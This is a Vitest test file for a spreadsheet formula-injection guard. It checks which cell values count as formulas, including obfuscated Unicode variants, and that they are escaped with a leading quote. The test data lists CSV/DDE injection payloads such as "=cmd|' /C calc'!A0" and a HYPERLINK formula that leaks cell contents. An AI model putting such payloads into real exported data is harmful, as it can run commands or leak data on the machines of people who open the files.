import { describe, expect, it } from 'vitest';
import { isFormula, markFormula } from '../../../../../nodes/shared/basics/text/formula';

describe('isFormula', () => {
	it.each([
		'=1+1',
		'=HYPERLINK("http://a.b/?"&A1,"Click")',
		'= A1',
		"=cmd|' /C calc'!A0",
		"+1+cmd|' /C calc'!A0",
		'+A1',
		'+1+2',
		'-40 to+SUM(A1)',
		'-Rabatt 5%',
		'-5 to|x!A0',
		'@ A1',
		'+SUM(A1:A9)',
		'-1+1',
		"-2-cmd|' /C calc'!A0",
		'-A1',
		'-1-B2',
		'-5*3',
		'-1&A1',
		'-(A1)',
		'- SUM(A1)',
		"- x|'y'!A0",
		'@SUM(1+1)*cmd',
		'@A1',
		'\r=1+1',
		'  =1+1',
		'"=1+1',
		'\u200b=1+1',
		'\ufeff=1+1',
		'\u202e=1+1',
		'＝1+1',
		'＋A1',
		'－A1',
		'＠SUM(1)',
		'﹦1',
	])('%j is one', (text) => {
		expect(isFormula(text)).toBe(true);
		expect(markFormula(text)).toBe(`'${text}`);
		expect(isFormula(markFormula(text))).toBe(false);
	});

	it.each([
		['x;=cmd|x!A0', "x;'=cmd|x!A0"],
		[';=1+1', ";'=1+1"],
		['a; =1+1;b', "a;' =1+1;b"],
		['a;"=1+1"', 'a;\'"=1+1"'],
		['a\t@SUM(1)', "a\t'@SUM(1)"],
		['1,=A1,\u200b-A1', "1,'=A1,'\u200b-A1"],
		['=1;+A1', "'=1;'+A1"],
		['\t=1', "'\t'=1"],
	])('%j holds one after what separates cells', (text, marked) => {
		expect(isFormula(text)).toBe(true);
		expect(markFormula(text)).toBe(marked);
		expect(isFormula(marked)).toBe(false);
	});

	it.each([
		'-40 to +85 °C',
		'-40 °C to +85 °C',
		'-40 bis +85 °C',
		'-40°C/+85°C',
		'+5 kg + box',
		'@ 5 EUR',
		'@ 5.00 per piece',
		'Harrow Ltd, - Branch',
		'Tel.; +49 30 1234',
		'1,-5',
		'0,-;--',
		'["a","=1"]',
		'a, -12.50 EUR; -5 %',
		"x;'=1",
		'',
		'=',
		'@',
		'-',
		'--',
		'+',
		'---',
		'+49 30 1234',
		'+49 (0)30 / 1234-56',
		'+1 (555) 123-4567',
		'+1(555)1234567 ext. 5',
		'-12.50',
		'-1.234,56 €',
		'-1,234.56 EUR',
		'-$5.00',
		'-€ 5',
		'-EUR 12.00',
		'-5 %',
		'+5%',
		'-5 kg',
		'- item',
		'- item (blue)',
		'- item(s) & more',
		'- Hello!',
		'-- Page --',
		'+ also this',
		'12-50',
		'a=b',
		'name@example.com',
		"'=1+1",
		'[{"a":"=1"}]',
		'2024-12-31',
		'−5',
	])('%j is none', (text) => {
		expect(isFormula(text)).toBe(false);
		expect(markFormula(text)).toBe(text);
	});
});
